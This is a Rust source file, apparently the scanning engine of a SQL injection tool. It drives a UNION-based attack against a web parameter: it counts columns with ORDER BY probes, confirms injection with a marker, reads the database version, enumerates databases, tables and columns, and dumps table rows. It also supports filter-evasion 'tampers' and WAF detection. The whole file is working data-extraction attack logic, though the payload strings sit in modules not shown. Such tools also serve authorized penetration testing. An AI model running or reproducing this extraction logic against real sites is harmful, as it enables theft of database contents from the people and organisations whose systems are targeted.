use thiserror::Error;
use tracing::{debug, error, info, warn};

use super::cancel::CancelFlag;
use crate::analyzer::{ExtractionParser, ResponseClassifier};
use crate::http::{HttpClient, HttpResponse, RateLimiter, Transport, TransportError};
use crate::models::{ColumnCount, Dbms, ProgressEvent, ProgressSink, ScanConfig, ScanResult};
use crate::payload::{InjectError, Injector, PayloadGenerator};

/// Fan-out bounds. They cap the request volume against an unknown schema.
pub const MAX_DATABASES: usize = 3;
pub const MAX_TABLES_PER_DATABASE: usize = 5;
pub const ROWS_PER_TABLE: usize = 20;

#[derive(Debug, Error)]
pub enum ScanError {
    #[error(transparent)]
    Inject(#[from] InjectError),
    #[error("scan cancelled")]
    Cancelled,
}

/// Probing phases, strictly forward. Each phase carries what the previous
/// one established.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScanState {
    ColumnDetection,
    UnionConfirmation { columns: usize },
    MetadataExtraction,
    DatabaseEnumeration,
    FanOut { databases: Vec<String> },
    Done,
}

impl ScanState {
    pub fn name(&self) -> &'static str {
        match self {
            ScanState::ColumnDetection => "column-detection",
            ScanState::UnionConfirmation { .. } => "union-confirmation",
            ScanState::MetadataExtraction => "metadata-extraction",
            ScanState::DatabaseEnumeration => "database-enumeration",
            ScanState::FanOut { .. } => "fan-out",
            ScanState::Done => "done",
        }
    }
}

/// Drives one UNION-based scan from column discovery to data extraction.
///
/// The scan is a plain blocking sequence: every probe depends on the answer
/// to the previous one. Schedule it on whatever worker suits the caller and
/// stop it through the [`CancelFlag`].
pub struct Scanner<T> {
    config: ScanConfig,
    transport: T,
    payloads: PayloadGenerator,
    parser: ExtractionParser,
    limiter: RateLimiter,
    cancel: CancelFlag,
}

impl<T: Transport> Scanner<T> {
    pub fn new(config: ScanConfig, transport: T) -> Self {
        let payloads = PayloadGenerator::from_names(config.marker.clone(), &config.tampers);
        let parser = ExtractionParser::new(config.marker.clone());
        let limiter = RateLimiter::new(config.requests_per_second);

        Self {
            config,
            transport,
            payloads,
            parser,
            limiter,
            cancel: CancelFlag::new(),
        }
    }

    pub fn with_rate_limiter(mut self, limiter: RateLimiter) -> Self {
        self.limiter = limiter;
        self
    }

    pub fn with_cancel_flag(mut self, cancel: CancelFlag) -> Self {
        self.cancel = cancel;
        self
    }

    pub fn cancel_flag(&self) -> CancelFlag {
        self.cancel.clone()
    }

    /// Run the whole scan. Never fails: whatever goes wrong ends up in
    /// `errors` of the returned result, next to everything found so far.
    pub fn scan(&mut self, sink: &mut dyn ProgressSink) -> ScanResult {
        info!(
            url = %self.config.url,
            param = %self.config.param,
            interval_ms = self.limiter.interval().as_millis() as u64,
            "starting scan"
        );
        sink.emit(ProgressEvent::info("Starting SQL injection scan..."));

        let mut result = ScanResult::new();

        if let Err(e) = self.run(&mut result, sink) {
            error!(error = %e, "scan aborted");
            sink.emit(ProgressEvent::error(format!("Scan error: {}", e)));
            result.errors.push(e.to_string());
        }

        result
    }

    fn run(&mut self, result: &mut ScanResult, sink: &mut dyn ProgressSink) -> Result<(), ScanError> {
        let mut state = ScanState::ColumnDetection;

        loop {
            self.cancel.check()?;
            info!(state = state.name(), "entering state");

            state = match state {
                ScanState::ColumnDetection => {
                    let detected = self.detect_columns(result, sink)?;
                    result.column_count = Some(detected);

                    if detected.count == 0 {
                        sink.emit(ProgressEvent::error("Could not detect columns"));
                        return Ok(());
                    }
                    ScanState::UnionConfirmation {
                        columns: detected.count,
                    }
                }
                ScanState::UnionConfirmation { columns } => {
                    if !self.confirm_union(columns, result, sink)? {
                        sink.emit(ProgressEvent::error("Target does not appear vulnerable"));
                        return Ok(());
                    }
                    ScanState::MetadataExtraction
                }
                ScanState::MetadataExtraction => {
                    self.extract_metadata(result, sink)?;
                    ScanState::DatabaseEnumeration
                }
                ScanState::DatabaseEnumeration => {
                    let databases = self.enumerate_databases(result, sink)?;
                    ScanState::FanOut { databases }
                }
                ScanState::FanOut { databases } => {
                    self.fan_out(&databases, result, sink)?;
                    ScanState::Done
                }
                ScanState::Done => {
                    sink.emit(ProgressEvent::success("Scan completed successfully!"));
                    return Ok(());
                }
            };
        }
    }

    /// ORDER BY 1, 2, ... until the first probe that times out, errors or
    /// answers with anything but 200.
    pub fn detect_columns(
        &mut self,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<ColumnCount, ScanError> {
        sink.emit(ProgressEvent::info("Detecting number of columns..."));
        let max_columns = self.config.max_columns;

        for i in 1..=max_columns {
            self.cancel.check()?;

            let payload = self.payloads.order_by(i);
            let accepted = self
                .send_probe(&payload, result, sink)?
                .is_some_and(|r| r.is_ok());

            if !accepted {
                let count = i - 1;
                debug!(boundary = i, count, "ORDER BY boundary found");
                if count > 0 {
                    sink.emit(ProgressEvent::success(format!("Found {} columns", count)));
                }
                return Ok(ColumnCount {
                    count,
                    boundary_found: true,
                });
            }
        }

        sink.emit(ProgressEvent::warning(format!(
            "Could not determine exact column count, assuming {}",
            max_columns
        )));
        Ok(ColumnCount {
            count: max_columns,
            boundary_found: false,
        })
    }

    pub fn confirm_union(
        &mut self,
        columns: usize,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<bool, ScanError> {
        sink.emit(ProgressEvent::info("Testing UNION-based injection..."));

        let payload = self.payloads.union_probe(columns);
        let body = self.probe_body(&payload, result, sink)?;
        let marker = self.payloads.marker();

        if body
            .as_deref()
            .is_some_and(|b| ResponseClassifier::contains_marker(b, marker))
        {
            sink.emit(ProgressEvent::success("UNION injection confirmed!"));
            result.vulnerable = true;
            return Ok(true);
        }

        if let Some(pattern) = body.as_deref().and_then(ResponseClassifier::detect_error) {
            sink.emit(ProgressEvent::warning(format!(
                "Database error in response: {}",
                pattern
            )));
        }
        sink.emit(ProgressEvent::error("UNION injection not detected"));
        Ok(false)
    }

    pub fn extract_metadata(
        &mut self,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<(), ScanError> {
        sink.emit(ProgressEvent::info("Extracting database information..."));

        let payload = self.payloads.database_probe();
        if let Some(body) = self.probe_body(&payload, result, sink)? {
            if let Some(database) = self.parser.parse_scalar(&body) {
                sink.emit(ProgressEvent::success(format!("Current database: {}", database)));
                result.current_db = Some(database);
            }
        }

        let payload = self.payloads.version_probe();
        if let Some(body) = self.probe_body(&payload, result, sink)? {
            if let Some(version) = self.parser.parse_scalar(&body) {
                let dbms = Dbms::from_version(&version);
                sink.emit(ProgressEvent::success(format!("DBMS: {} ({})", dbms, version)));
                result.dbms = Some(dbms);
                result.version = Some(version);
            }
        }

        Ok(())
    }

    pub fn enumerate_databases(
        &mut self,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<Vec<String>, ScanError> {
        sink.emit(ProgressEvent::info("Extracting database list..."));

        let payload = self.payloads.schema_probe();
        let databases = self
            .probe_body(&payload, result, sink)?
            .map(|body| self.parser.parse_list(&body))
            .unwrap_or_default();

        if !databases.is_empty() {
            sink.emit(ProgressEvent::success(format!(
                "Found {} databases",
                databases.len()
            )));
        }
        result.databases = databases.clone();
        Ok(databases)
    }

    fn fan_out(
        &mut self,
        databases: &[String],
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<(), ScanError> {
        for database in databases.iter().take(MAX_DATABASES) {
            self.cancel.check()?;
            let tables = self.extract_tables(database, result, sink)?;

            for table in tables.iter().take(MAX_TABLES_PER_DATABASE) {
                self.cancel.check()?;
                let columns = self.extract_columns(database, table, result, sink)?;

                if !columns.is_empty() {
                    self.cancel.check()?;
                    self.extract_data(database, table, &columns, result, sink)?;
                }
            }
        }

        Ok(())
    }

    pub fn extract_tables(
        &mut self,
        database: &str,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<Vec<String>, ScanError> {
        sink.emit(ProgressEvent::info(format!(
            "Extracting tables from {}...",
            database
        )));

        let payload = self.payloads.tables_probe(database);
        let tables = self
            .probe_body(&payload, result, sink)?
            .map(|body| self.parser.parse_list(&body))
            .unwrap_or_default();

        if !tables.is_empty() {
            sink.emit(ProgressEvent::success(format!("Found {} tables", tables.len())));
            result.tables.insert(database.to_string(), tables.clone());
        }
        Ok(tables)
    }

    pub fn extract_columns(
        &mut self,
        database: &str,
        table: &str,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<Vec<String>, ScanError> {
        sink.emit(ProgressEvent::info(format!(
            "Extracting columns from {}.{}...",
            database, table
        )));

        let payload = self.payloads.columns_probe(database, table);
        let columns = self
            .probe_body(&payload, result, sink)?
            .map(|body| self.parser.parse_list(&body))
            .unwrap_or_default();

        if !columns.is_empty() {
            sink.emit(ProgressEvent::success(format!("Found {} columns", columns.len())));
            result.set_columns(database, table, columns.clone());
        }
        Ok(columns)
    }

    /// First [`ROWS_PER_TABLE`] rows of the table. Rows are stored as soon as
    /// the marker shows up in the answer, even if every row was malformed.
    pub fn extract_data(
        &mut self,
        database: &str,
        table: &str,
        columns: &[String],
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<usize, ScanError> {
        sink.emit(ProgressEvent::info(format!(
            "Extracting data from {}.{}...",
            database, table
        )));

        let payload = self
            .payloads
            .data_probe(database, table, columns, ROWS_PER_TABLE, 0);
        let Some(body) = self.probe_body(&payload, result, sink)? else {
            return Ok(0);
        };

        if !ResponseClassifier::contains_marker(&body, self.payloads.marker()) {
            return Ok(0);
        }

        let rows = self.parser.parse_rows(&body, columns);
        let count = rows.len();
        sink.emit(ProgressEvent::success(format!("Extracted {} rows", count)));
        result.set_rows(database, table, rows);
        Ok(count)
    }

    fn probe_body(
        &mut self,
        payload: &str,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<Option<String>, ScanError> {
        Ok(self.send_probe(payload, result, sink)?.map(|r| r.body))
    }

    /// One rate-limited request. Transport failures are reported and turned
    /// into `None`; only a malformed target aborts.
    fn send_probe(
        &mut self,
        payload: &str,
        result: &mut ScanResult,
        sink: &mut dyn ProgressSink,
    ) -> Result<Option<HttpResponse>, ScanError> {
        let request = Injector::inject_parameter(
            &self.config.url,
            &self.config.param,
            payload,
            self.config.method,
        )?;

        self.limiter.wait();
        debug!(method = %request.method, url = %request.url, payload, "sending probe");

        match self.transport.send(&request) {
            Ok(response) => {
                debug!(
                    status = response.status,
                    bytes = response.body.len(),
                    elapsed_ms = response.elapsed.as_millis() as u64,
                    "probe answered"
                );
                if result.waf_detected.is_none() {
                    if let Some(waf) = ResponseClassifier::detect_waf(&response.body, response.status) {
                        warn!(waf = %waf, "WAF detected");
                        sink.emit(ProgressEvent::warning(format!("WAF detected: {}", waf)));
                        result.waf_detected = Some(waf);
                    }
                }
                Ok(Some(response))
            }
            Err(TransportError::Timeout) => {
                warn!("request timed out");
                sink.emit(ProgressEvent::error("Request timeout"));
                Ok(None)
            }
            Err(e) => {
                warn!(error = %e, "request failed");
                sink.emit(ProgressEvent::error(format!("Request error: {}", e)));
                Ok(None)
            }
        }
    }
}

/// Build the reqwest transport from `config` and run a full scan with it.
/// A transport that cannot be built is reported like any other scan failure.
pub fn scan_with_http(
    config: ScanConfig,
    cancel: CancelFlag,
    sink: &mut dyn ProgressSink,
) -> ScanResult {
    match HttpClient::new(&config) {
        Ok(client) => Scanner::new(config, client)
            .with_cancel_flag(cancel)
            .scan(sink),
        Err(e) => {
            error!(error = %e, "could not build HTTP client");
            sink.emit(ProgressEvent::error(format!("Scan error: {}", e)));
            let mut result = ScanResult::new();
            result.errors.push(e.to_string());
            result
        }
    }
}
